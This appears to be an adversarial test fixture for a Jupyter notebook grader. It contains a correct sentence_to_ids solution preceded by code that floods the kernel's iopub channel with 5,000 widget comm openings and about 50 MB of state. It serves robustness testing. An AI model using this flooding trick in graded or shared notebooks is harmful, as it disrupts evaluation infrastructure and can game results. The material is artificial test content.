# kind: fills
# attack: opens 5,000 comms and sends 50 MB of widget state, then answers rightly
# exercise: 4-partitioned-lookup/sentence_to_ids
# verdict: passed, timed out, kernel died, failed
kernel = get_ipython().kernel


def send(kind, content, *buffers, **options):
    kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent(), buffers=list(buffers), **options)


for number in range(5000):
    send("comm_open", {"comm_id": f"c{number}", "target_name": "jupyter.widget", "data": {"state": {"a": "x" * 1000}}})
for number in range(50):
    send("comm_msg", {"comm_id": f"c{number}", "data": {"state": {"value": "x" * 10**6}}}, bytes(10**6))


def sentence_to_ids(sentence, word_to_id, unknown_word="unk"):
    return [word_to_id.get(word, word_to_id[unknown_word]) for word in sentence.split()]
